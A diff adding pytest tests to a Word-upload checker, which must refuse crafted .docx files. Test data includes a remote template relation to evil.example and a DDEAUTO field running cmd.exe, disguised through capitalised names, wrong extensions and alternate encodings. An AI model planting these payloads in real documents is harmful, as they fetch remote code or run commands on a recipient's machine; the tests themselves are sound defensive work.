@@ -1,12 +1,13 @@
 """Word documents: real ones are taken; macros, bombs and what fetches from elsewhere are not."""
 
+import io
 import zipfile
 
 import pytest
 
 from portal.files import rules
 from portal.files.check import FileRefused, check_upload
-from tests.portal.files.samples import MACRO_TYPE, docx, pdf, relation, zipped
+from tests.portal.files.samples import MACRO_TYPE, RELATIONS, docx, pdf, relation, zipped
 
 
 def field(text: str) -> str:
@@ -126,3 +127,52 @@ def test_entities_are_refused_in_every_encoding(part: str, encoding: str) -> Non
 def test_a_part_that_is_not_xml_is_refused() -> None:
     with pytest.raises(FileRefused, match="could not open"):
         check_upload("a.docx", docx({"word/styles.xml": b"<a><b></a>"}))
+
+
+OUTSIDE = f"<R>{relation('attachedTemplate', 'https://evil.example/x.dotm', 'External')}</R>"
+DDE = '<w:hdr xmlns:w="w"><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe calc "/></w:hdr>'
+HEADER = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
+
+
+def declared(part: str, kind: str) -> str:
+    """`[Content_Types].xml` of `docx()`, with one more part."""
+    types = zipfile.ZipFile(io.BytesIO(docx())).read("[Content_Types].xml").decode()
+    return types.replace("</Types>", f'<Override PartName="/{part}" ContentType="{kind}"/></Types>')
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        {"word/_rels/settings.xml.RELS": OUTSIDE},
+        {"word/_rels/settings.xml.rels": OUTSIDE.replace("External", "external")},
+        {"word/header1.XML": DDE},
+        {"word/header1.part": DDE},
+        {"word/header1.part": DDE, "[Content_Types].xml": declared("word/header1.part", HEADER)},
+        {"word/HEADER1.png": DDE, "[Content_Types].xml": declared("word/header1.png", HEADER.upper())},
+        {"word/vb.dat": OUTSIDE},
+        {"word/media/image1.png": "\ufeff" + DDE},
+        {"word/header1.bin": DDE.encode("utf-16")},
+        {"word/_RELS/document2": OUTSIDE, "[Content_Types].xml": declared("word/_rels/document2", RELATIONS)},
+    ],
+    ids="rels mode xml undeclared declared capitals dat bom utf-16 relations".split(),
+)
+def test_no_spelling_of_a_name_hides_what_word_would_read(extra: dict[str, bytes | str]) -> None:
+    with pytest.raises(FileRefused):
+        check_upload("a.docx", docx(extra))
+
+
+def test_names_are_the_same_in_capitals_and_pictures_may_be_drawings() -> None:
+    drawing = {
+        "word/media/image1.svg": "<svg/>",
+        "[Content_Types].xml": declared("word/media/IMAGE1.svg", "image/svg+xml"),
+    }
+    for content in (docx(drawing), docx({"word/Header1.XML": '<w:hdr xmlns:w="w"/>'})):
+        assert check_upload("a.docx", content).content == content
+
+
+def test_a_type_of_a_part_in_capitals_still_makes_a_word_document() -> None:
+    types = declared("word/x.bin", "image/x-emf").replace(
+        'PartName="/word/document.xml"', 'PartName="/WORD/Document.xml"'
+    )
+    found = docx({"[Content_Types].xml": types, "word/x.bin": b"\x01\x00"})
+    assert check_upload("a.docx", found).content == found
